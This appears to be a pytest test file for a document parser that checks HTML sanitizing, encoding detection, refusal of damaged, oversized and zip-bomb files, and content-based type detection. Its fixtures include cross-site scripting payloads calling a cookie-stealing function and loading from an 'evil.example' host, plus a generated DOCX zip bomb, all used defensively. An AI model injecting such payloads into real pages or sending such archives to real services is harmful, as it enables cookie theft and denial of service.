"""What parsers make safe, decode, refuse and detect: hostile HTML, encodings, damaged and oversized files, disguised formats."""

from __future__ import annotations

import io
import random
import time
import zipfile

import pytest
from fpdf import FPDF

from docsite.documents.exceptions import (
    CorruptFileError,
    DocumentRejectedError,
    EmptyDocumentError,
    FileTooLargeError,
    UnsupportedFormatError,
)
from docsite.documents.parsers import (
    MIME_DOCX,
    MIME_HTML,
    MIME_MARKDOWN,
    MIME_PDF,
    MIME_TEXT,
    decode_text,
    detect_mime_type,
    parse_document,
)
from docsite.documents.parsers.html import clean_html

from .files import make_docx, make_pdf

pytestmark = pytest.mark.usefixtures("fresh_parser_registry")


# --- HTML is made safe -------------------------------------------------------

HOSTILE_HTML = b"""<html><head><script>stealCookies()</script>
<style>body { display: none }</style></head><body>
<p onclick="stealCookies()">Visible words</p>
<img src="https://tracker.example/pixel.png" onerror="stealCookies()">
<a href="javascript:stealCookies()">bad link</a>
<a href=" JaVaScRiPt:stealCookies()">sneaky link</a>
<a href="https://example.org/ok">good link</a>
<svg onload="stealCookies()"><text>svg junk</text></svg>
<iframe src="https://evil.example"></iframe>
<noscript><img src=x onerror="stealCookies()"></noscript>
<script type="module">import("https://evil.example")</script>
</body></html>"""


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("page.html", HOSTILE_HTML),
        ("page.md", b"# Notes\n\n" + HOSTILE_HTML.split(b"<body>")[1]),
    ],
)
def test_scripts_handlers_and_javascript_links_never_survive(filename, data):
    _, parsed = parse_document(data, filename=filename)

    html = parsed.html.lower()
    for forbidden in ("<script", "onclick", "onerror", "onload", "javascript:", "<img"):
        assert forbidden not in html
    assert "<iframe" not in html and "<svg" not in html and "<style" not in html
    assert "stealcookies" not in html
    assert "stealCookies" not in parsed.text and "evil.example" not in parsed.text
    assert "display: none" not in parsed.text
    assert "Visible words" in parsed.text and "good link" in parsed.text
    assert '<a href="https://example.org/ok" rel="noopener noreferrer">' in parsed.html


def test_clean_html_keeps_article_markup_and_drops_the_rest():
    cleaned = clean_html(
        '<h2 style="color:red">Title</h2><p class="x">A <em>b</em> <code>c</code></p>'
        '<a href="mailto:ops@example.org" target="_blank">mail</a><form><input></form>'
    )

    assert cleaned == (
        "<h2>Title</h2><p>A <em>b</em> <code>c</code></p>"
        '<a href="mailto:ops@example.org" rel="noopener noreferrer">mail</a>'
    )


@pytest.mark.parametrize("filename", ["deep.html", "deep.md"])
def test_deeply_nested_html_ends_cleanly(filename):
    """100,000 nested <div>s give text or a refusal, never a crash or a hang."""
    data = b"<html><body>" + b"<div>" * 100_000 + b"deep words" + b"</div>" * 100_000

    started = time.monotonic()
    try:
        _, parsed = parse_document(data, filename=filename)
    except DocumentRejectedError as error:
        assert "nested" in str(error)
    else:
        assert "deep words" in parsed.text
    assert time.monotonic() - started < 1


def test_moderately_nested_html_keeps_all_its_text():
    data = (
        b"<p>start</p>" + b"<div>" * 400 + b"middle" + b"</div>" * 400 + b"<p>end</p>"
    )

    _, parsed = parse_document(data, filename="nested.html")

    assert parsed.text == "start\n\nmiddle\n\nend"


def test_deeply_indented_markdown_is_refused_quickly():
    data = "\n".join("  " * level + "- item" for level in range(2000)).encode()

    started = time.monotonic()
    with pytest.raises(CorruptFileError, match="indented"):
        parse_document(data, filename="stairs.md")
    assert time.monotonic() - started < 1


# --- Text encodings ---------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_with_byte_order_mark_is_decoded(encoding):
    mark = "\ufeff".encode(encoding)
    data = mark + "Grüße aus Köln\r\nzweite Zeile".encode(encoding)

    mime_type, parsed = parse_document(data, filename="greeting.txt")

    assert mime_type == MIME_TEXT
    assert parsed.text == "Grüße aus Köln\nzweite Zeile"


def test_latin1_text_is_decoded():
    text = "Le café de la crème brûlée est très apprécié; naïve façade à Noël."

    _, parsed = parse_document(text.encode("latin-1"), filename="menu.txt")

    assert parsed.text == text


def test_decode_text_drops_utf8_byte_order_mark():
    assert decode_text(b"\xef\xbb\xbfhello\rworld") == "hello\nworld"


def test_nul_bytes_are_refused_as_binary():
    with pytest.raises(UnsupportedFormatError, match="not a supported format"):
        parse_document(b"looks like text\x00\x01\x02 but is not", filename="data.txt")


@pytest.mark.parametrize(
    "data",
    [
        random.Random(7).randbytes(4096),
        bytes(b for b in random.Random(8).randbytes(8192) if b)[:4096],
    ],
    ids=["with-nul-bytes", "without-nul-bytes"],
)
def test_random_bytes_are_refused_as_unsupported(data):
    with pytest.raises(UnsupportedFormatError, match="not a supported format"):
        parse_document(data, filename="blob.bin")


# --- Refusals ---------------------------------------------------------------


def test_empty_file_is_refused():
    with pytest.raises(EmptyDocumentError, match="empty"):
        parse_document(b"", filename="empty.txt")


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("blank.txt", b"  \n\t\r\n"),
        ("blank.md", b"   \n"),
        ("scripts-only.html", b"<html><script>x()</script></html>"),
    ],
)
def test_file_without_text_is_refused(filename, data):
    with pytest.raises(EmptyDocumentError, match="contains no text"):
        parse_document(data, filename=filename)


def test_truncated_pdf_is_refused_as_corrupt():
    data = make_pdf(["Some words on a page."])

    with pytest.raises(CorruptFileError, match="damaged or not a PDF"):
        parse_document(data[: len(data) // 2], filename="cut.pdf")


def test_truncated_docx_is_refused_as_corrupt():
    data = make_docx()

    with pytest.raises(CorruptFileError, match="damaged"):
        parse_document(data[: len(data) // 2], filename="cut.docx")


def test_password_protected_pdf_is_refused():
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Secret words")
    pdf.set_encryption(owner_password="owner", user_password="reader")

    with pytest.raises(CorruptFileError, match="password-protected"):
        parse_document(bytes(pdf.output()), filename="secret.pdf")


def test_docx_zip_bomb_is_refused():
    """GIVEN a real DOCX with an extra 300 MB part of zeros (about 1 MB packed)."""
    buffer = io.BytesIO(make_docx())
    with (
        zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/zeros.bin", "w", force_zip64=True) as member,
    ):
        chunk = bytes(1024 * 1024)
        for _ in range(300):
            member.write(chunk)

    with pytest.raises(FileTooLargeError, match="unpacks to"):
        parse_document(buffer.getvalue(), filename="bomb.docx")


def test_docx_over_the_configured_unpacked_size_is_refused(settings):
    settings.DOCSITE_PARSERS = {
        "docx": {"OPTIONS": {"max_uncompressed_bytes": 10_000}},
    }

    with pytest.raises(FileTooLargeError, match="the limit is"):
        parse_document(make_docx(), filename="backup.docx")


def test_pdf_with_too_many_pages_is_refused(settings):
    settings.DOCSITE_PARSERS = {"pdf": {"OPTIONS": {"max_pages": 2}}}

    with pytest.raises(FileTooLargeError, match="3 pages; the limit is 2"):
        parse_document(make_pdf(["one", "two", "three"]), filename="long.pdf")


def test_text_over_the_character_limit_is_refused(settings):
    settings.DOCSITE_MAX_TEXT_CHARS = 20

    with pytest.raises(FileTooLargeError, match="the limit is 20"):
        parse_document(b"word " * 10, filename="words.txt")


def test_format_whose_parser_is_disabled_is_refused(settings):
    settings.DOCSITE_PARSERS = {"text": {"OPTIONS": {}}}

    with pytest.raises(UnsupportedFormatError, match="no parser for that format"):
        parse_document(make_pdf(["words"]), filename="report.pdf")


# --- Type detection ---------------------------------------------------------


def test_pdf_named_txt_is_detected_and_read_as_pdf():
    mime_type, parsed = parse_document(make_pdf(["Hidden PDF words"]), filename="a.txt")

    assert mime_type == MIME_PDF
    assert parsed.text == "Hidden PDF words"


@pytest.mark.parametrize(
    ("data", "filename", "expected"),
    [
        (b"plain words", "notes.txt", MIME_TEXT),
        (b"plain words", "notes", MIME_TEXT),
        (b"# heading", "notes.md", MIME_MARKDOWN),
        (b"# heading", "notes.MARKDOWN", MIME_MARKDOWN),
        (b"just text", "page.htm", MIME_HTML),
        (b"\n  <!DOCTYPE html><p>x</p>", "notes.txt", MIME_HTML),
        (b"<html><body>x</body></html>", "notes.md", MIME_HTML),
        (b"<div>\n<head></head><body>x</body>", "upload", MIME_HTML),
        (b"Use <body> for the page body.", "notes.txt", MIME_TEXT),
        (b"  %PDF-1.7 rest", "x.docx", MIME_PDF),
    ],
)
def test_detect_mime_type_follows_content(data, filename, expected):
    assert detect_mime_type(data, filename=filename) == expected


def test_docx_is_detected_by_its_main_part():
    assert detect_mime_type(make_docx(), filename="renamed.zip") == MIME_DOCX


@pytest.mark.parametrize(
    ("member", "kind"),
    [("xl/workbook.xml", "Excel workbook"), ("readme.txt", "ZIP archive")],
)
def test_other_zip_files_are_refused_by_name(member, kind):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(member, "<x/>")

    with pytest.raises(UnsupportedFormatError, match=kind):
        detect_mime_type(buffer.getvalue(), filename="sheet.docx")


def test_known_binary_formats_are_named():
    with pytest.raises(UnsupportedFormatError, match="PNG image"):
        detect_mime_type(b"\x89PNG\r\n\x1a\n" + bytes(64), filename="photo.txt")


def test_undecodable_file_with_text_extension_is_reported_as_damaged_text(
    monkeypatch,
):
    monkeypatch.setattr(
        "charset_normalizer.from_bytes",
        lambda data: type("NoMatches", (), {"best": lambda self: None})(),
    )

    with pytest.raises(CorruptFileError, match="encoding could not be recognised"):
        detect_mime_type(b"caf\xe9", filename="menu.txt")
